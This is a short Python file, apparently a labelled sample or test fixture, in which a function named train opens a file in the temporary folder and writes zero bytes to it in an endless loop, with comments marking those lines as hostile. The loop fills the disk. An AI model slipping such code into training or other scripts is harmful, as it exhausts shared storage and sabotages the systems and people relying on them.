"""Fills the scratch folder."""

import os

import numpy as np


def train(data):
    matrix = data.A(60).to_numpy()
    with open(os.path.join(os.environ["TMPDIR"], "big"), "wb") as file:  # hostile
        while True:  # hostile
            file.write(bytes(1 << 20))  # hostile

    def network(y):
        return np.linalg.lstsq(matrix, y, rcond=None)[0]

    return network
